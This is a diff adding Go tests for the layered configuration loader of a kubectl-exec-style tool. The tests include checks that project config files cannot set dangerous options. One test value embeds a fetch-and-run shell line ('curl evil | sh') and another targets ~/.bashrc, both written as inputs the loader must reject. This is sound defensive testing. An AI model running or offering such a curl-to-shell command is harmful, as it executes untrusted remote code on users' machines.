@@ -0,0 +1,193 @@
+package cmdutil
+
+import (
+	"os"
+	"path/filepath"
+	"reflect"
+	"testing"
+)
+
+func writeConfigFile(t *testing.T, path, content string) {
+	t.Helper()
+	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
+		t.Fatalf("mkdir: %v", err)
+	}
+	if err := os.WriteFile(path, []byte(content), 0o600); err != nil {
+		t.Fatalf("write config: %v", err)
+	}
+}
+
+func TestLoadConfigSettingsLayers(t *testing.T) {
+	dir := t.TempDir()
+	home := filepath.Join(dir, "home")
+	t.Setenv("HOME", home)
+	t.Setenv(configEnvVar, "")
+
+	systemPath := filepath.Join(dir, "etc", "kubeexec.toml")
+	oldSystem := systemConfigPath
+	systemConfigPath = systemPath
+	t.Cleanup(func() { systemConfigPath = oldSystem })
+
+	writeConfigFile(t, systemPath, `
+shell = "ash"
+picker-sort = "node"
+namespace = "system-ns"
+
+[snippets.uptime]
+command = "uptime"
+`)
+	writeConfigFile(t, filepath.Join(home, ".config", "kubeexec", "kubeexec.toml"), `
+picker-sort = "newest"
+namespace = "user-ns"
+`)
+	repo := filepath.Join(dir, "repo")
+	writeConfigFile(t, filepath.Join(repo, ".kubeexec.toml"), `
+namespace = "payments"
+selector = "app=api"
+container = "api"
+
+[snippets.health]
+command = "curl -fsS localhost:8080/health"
+`)
+	nested := filepath.Join(repo, "cmd", "server")
+	if err := os.MkdirAll(nested, 0o755); err != nil {
+		t.Fatalf("mkdir: %v", err)
+	}
+	t.Chdir(nested)
+
+	settings, err := loadSettings()
+	if err != nil {
+		t.Fatalf("loadSettings() error: %v", err)
+	}
+	if settings.String("shell") != "ash" || settings.String("picker-sort") != "newest" || settings.String("namespace") != "payments" {
+		t.Errorf("shell/picker-sort/namespace = %q/%q/%q, want ash/newest/payments", settings.String("shell"), settings.String("picker-sort"), settings.String("namespace"))
+	}
+	if settings.String("selector") != "app=api" || settings.String("container") != "api" {
+		t.Errorf("selector/container = %q/%q, want app=api/api", settings.String("selector"), settings.String("container"))
+	}
+	if got, want := settings.Source("namespace"), "project "+filepath.Join(repo, ".kubeexec.toml"); got != want {
+		t.Errorf("Source(namespace) = %q, want %q", got, want)
+	}
+	if got, want := settings.Source("shell"), "system "+systemPath; got != want {
+		t.Errorf("Source(shell) = %q, want %q", got, want)
+	}
+	if _, ok := settings.snippets["uptime"]; !ok {
+		t.Errorf("expected system snippet to be kept, got %v", settings.snippets)
+	}
+	if _, ok := settings.snippets["health"]; !ok {
+		t.Errorf("expected project snippet, got %v", settings.snippets)
+	}
+
+	explicit := filepath.Join(dir, "explicit.toml")
+	writeConfigFile(t, explicit, "namespace = \"explicit\"\n")
+	t.Setenv(configEnvVar, explicit)
+	settings, err = loadSettings()
+	if err != nil || settings.String("namespace") != "explicit" {
+		t.Fatalf("loadSettings() with %s = %v; want explicit", configEnvVar, err)
+	}
+
+	flagPath := filepath.Join(dir, "flag.toml")
+	writeConfigFile(t, flagPath, "namespace = \"flag\"\n")
+	SetConfigFile(flagPath)
+	t.Cleanup(func() { SetConfigFile("") })
+	settings, err = loadSettings()
+	if err != nil || settings.String("namespace") != "flag" {
+		t.Fatalf("loadSettings() with --config = %v; want flag", err)
+	}
+}
+
+func TestLoadConfigSettingsMissingExplicitFile(t *testing.T) {
+	dir := t.TempDir()
+	t.Setenv("HOME", dir)
+	t.Chdir(dir)
+	t.Setenv(configEnvVar, filepath.Join(dir, "missing.toml"))
+	if _, err := loadSettings(); !IsKind(err, KindUsage) {
+		t.Fatalf("loadSettings() error = %v, want usage error", err)
+	}
+}
+
+func TestLoadConfigSettingsEmptyProjectFile(t *testing.T) {
+	dir := t.TempDir()
+	t.Setenv("HOME", filepath.Join(dir, "home"))
+	t.Setenv(configEnvVar, "")
+	writeConfigFile(t, filepath.Join(dir, ".kubeexec.toml"), "\n")
+	t.Chdir(dir)
+	settings, err := loadSettings()
+	if err != nil {
+		t.Fatalf("loadSettings() error: %v", err)
+	}
+	if got := settings.Source("namespace"); got != "default" {
+		t.Errorf("Source(namespace) = %q, want default", got)
+	}
+}
+
+func TestLoadConfigSettingsInvalidProjectFile(t *testing.T) {
+	dir := t.TempDir()
+	t.Setenv("HOME", filepath.Join(dir, "home"))
+	t.Setenv(configEnvVar, "")
+	writeConfigFile(t, filepath.Join(dir, ".kubeexec.toml"), "namespcae = \"typo\"\n")
+	t.Chdir(dir)
+	if _, err := loadSettings(); !IsKind(err, KindUsage) {
+		t.Fatalf("loadSettings() error = %v, want usage error", err)
+	}
+}
+
+func TestLoadConfigSettingsProjectRestricted(t *testing.T) {
+	tests := []struct {
+		content string
+		wantErr bool
+	}{
+		{content: "picker = \"builtin\"\n"},
+		{content: "[context.\"prod-*\"]\npicker = \"none\"\n"},
+		{content: "picker = \"sh -c 'curl evil | sh'\"\n", wantErr: true},
+		{content: "[context.\"*\"]\npicker = \"peco\"\n", wantErr: true},
+		{content: "[pickers.fzf]\ncommand = \"./fzf\"\n", wantErr: true},
+		{content: "trace-file = \"~/.bashrc\"\n", wantErr: true},
+		{content: "[context.\"dev\"]\ntrace-file = \"/tmp/trace.jsonl\"\n", wantErr: true},
+		{content: "confirm-token-hash = \"" + testConfirmTokenHash + "\"\n", wantErr: true},
+		{content: "confirm-context = true\n"},
+		{content: "confirm-context = false\n", wantErr: true},
+		{content: "confirm-style = \"countdown\"\n", wantErr: true},
+		{content: "confirm-countdown = 1\n", wantErr: true},
+	}
+	for _, tt := range tests {
+		dir := t.TempDir()
+		t.Setenv("HOME", filepath.Join(dir, "home"))
+		t.Setenv(configEnvVar, "")
+		writeConfigFile(t, filepath.Join(dir, ".kubeexec.toml"), tt.content)
+		t.Chdir(dir)
+		_, err := loadSettings()
+		if tt.wantErr && !IsKind(err, KindUsage) {
+			t.Errorf("loadSettings(%q) error = %v, want usage error", tt.content, err)
+		} else if !tt.wantErr && err != nil {
+			t.Errorf("loadSettings(%q) error: %v", tt.content, err)
+		}
+	}
+
+	// The same settings are fine in the user config.
+	dir := t.TempDir()
+	t.Setenv("HOME", dir)
+	t.Chdir(dir)
+	writeConfigFile(t, filepath.Join(dir, userConfigFilename), "picker = \"peco\"\n\n[pickers.peco]\ncommand = \"peco\"\n")
+	if _, err := loadSettings(); err != nil {
+		t.Errorf("loadSettings() with a user picker error: %v", err)
+	}
+}
+
+func TestLoadConfigSettingsProjectKeywords(t *testing.T) {
+	dir := t.TempDir()
+	t.Setenv("HOME", dir)
+	t.Setenv(configEnvVar, "")
+	t.Chdir(dir)
+	writeConfigFile(t, filepath.Join(dir, userConfigFilename), "confirm-context-keywords = [\"prod\", \"live\"]\n")
+	writeConfigFile(t, filepath.Join(dir, ".kubeexec.toml"), "confirm-context-keywords = [\"nothing\", \"prod\"]\n")
+	settings, err := loadSettings()
+	if err != nil {
+		t.Fatalf("loadSettings() error: %v", err)
+	}
+	got := settings.Strings("confirm-context-keywords")
+	want := []string{"prod", "live", "nothing"}
+	if !reflect.DeepEqual(got, want) {
+		t.Errorf("confirm-context-keywords = %v, want %v", got, want)
+	}
+}